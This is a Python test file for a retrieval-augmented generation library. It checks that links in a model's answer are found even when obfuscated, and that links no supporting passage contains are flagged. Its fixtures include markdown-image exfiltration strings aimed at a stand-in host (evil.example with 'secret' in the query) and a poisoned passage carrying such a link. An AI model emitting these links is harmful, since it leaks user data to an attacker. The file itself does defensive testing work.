"""Links and images of an answer are found in every spelling, and those that no supporting passage has are named."""

from __future__ import annotations

import pytest

from robustrag_integrations import CallableModel, KeywordAggregation, VanillaRAG, isolate
from robustrag_integrations.answers.links import links_in
from robustrag_integrations.plans.finish import unsupported_links

QUERY = "Who runs the mill?"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See https://a.example/x?q=1.", ("https://a.example/x?q=1",)),
        ("![s](https://a.example/p.png?d=x)", ("https://a.example/p.png?d=x",)),
        ("[more](https://a.example/a_(b))", ("https://a.example/a_(b)",)),
        ("<img src='http://a.example/i'>", ("http://a.example/i",)),
        ("[1]: https://a.example/ref\nsee [1]", ("https://a.example/ref",)),
        ("at www.b.example", ("www.b.example",)),
        ("h\u200bttps://a.exa\u2060mple/x", ("https://a.example/x",)),
        ("[x](relative/path?d=1)", ("relative/path?d=1",)),
        ("<img src=\"data:image/png;base64,AA\">", ("data:image/png;base64,AA",)),
        ("javascript:alert(1)", ("javascript:alert(1)",)),
        ("see evil.example/q/SECRET now", ("evil.example/q/SECRET",)),
        ("evil\U000e0141.exam\ufe0fple/q", ("evil.example/q",)),
        ("10.0.0.1/q/SECRET", ("10.0.0.1/q/SECRET",)),
        ("10.0.0.0/24, handbook.pdf, conf.d/a.conf, docs/a.md#b, Node.js, e.g. TCP/IP, 1.5/2", ()),
        ("No link. 3 // 4, a.b, and/or, 12:30, data: none.", ()),
    ],
)  # fmt: skip
def test_links_are_found_in_every_spelling(text: str, expected: tuple[str, ...]) -> None:
    assert set(links_in(text)) <= set(expected)
    assert links_in(text)[:1] == expected[:1]


def model(said: str) -> CallableModel:
    return CallableModel(lambda prompt: said)


def test_a_link_that_no_passage_has_is_named_and_warned_of() -> None:
    passages = ["Anna Lind runs the mill.", "It is Anna Lind, see https://mill.example/staff."]
    exfiltrates = VanillaRAG(model("Anna Lind ![x](https://evil.example/p?q=secret)")).answer(QUERY, passages)
    assert unsupported_links(exfiltrates, isolate(passages)) == ("https://evil.example/p?q=secret",)
    [warning] = [w for w in exfiltrates.warnings if "no supporting passage has" in w]
    assert "https://evil.example/p?q=secret" in warning
    honest = VanillaRAG(model("Anna Lind (https://mill.example/staff)")).answer(QUERY, passages)
    assert unsupported_links(honest, isolate(passages)) == ()
    assert not any("no supporting passage" in w for w in honest.warnings)
    altered = VanillaRAG(model("See https://mill.example/staff?q=secret")).answer(QUERY, passages)
    assert unsupported_links(altered, isolate(passages)) == ("https://mill.example/staff?q=secret",)


def test_only_passages_of_supporting_sources_count() -> None:
    said = "Anna Lind, see https://evil.example/x"

    def read(prompt: str) -> str:
        if "Keywords: " in prompt:
            return said
        return "Bo Ek" if "Bo Ek" in prompt.rsplit("Text:", 1)[-1] else "Anna Lind"

    passages = [*(f"Page {n}: Anna Lind runs the mill." for n in range(5)), "Bo Ek runs it: https://evil.example/x"]
    answer = KeywordAggregation(CallableModel(read), final="always").answer(QUERY, passages)
    assert unsupported_links(answer, isolate(passages)) == ("https://evil.example/x",)
    assert any("https://evil.example/x" in w for w in answer.warnings)
    assert VanillaRAG(CallableModel(lambda prompt: said)).answer(QUERY, passages).warnings == ()
